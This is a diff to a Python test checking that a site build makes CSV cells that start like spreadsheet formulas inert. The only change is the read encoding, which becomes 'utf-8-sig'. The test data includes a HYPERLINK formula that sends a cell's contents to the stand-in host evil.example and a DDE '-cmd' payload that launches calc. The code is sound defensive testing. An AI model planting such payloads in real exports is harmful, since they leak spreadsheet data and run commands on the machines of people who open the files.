@@ -364,7 +364,7 @@ def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
     edit(claims, "{measure: River rise, value: 3}", "{measure: '@SUM(A1:A3)', value: 3}")
     result = run_build(root)
     assert result.code == 0, result.err
-    rows = list(csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(encoding="utf-8"))))
+    rows = list(csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(encoding="utf-8-sig"))))
     cells = [cell for row in rows for cell in row]
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
     assert "'-cmd|' /C calc'!A0" in cells and "'@SUM(A1:A3)" in cells
@@ -374,5 +374,5 @@ def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
     edit(claims, "claimant: '-cmd|'' /C calc''!A0'", 'claimant: "\\t-cmd"')
     assert run_build(root).code == 0
     cells = [cell for row in csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(
-        encoding="utf-8"), newline="")) for cell in row]
+        encoding="utf-8-sig"), newline="")) for cell in row]
     assert "'+HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'\t-cmd" in cells
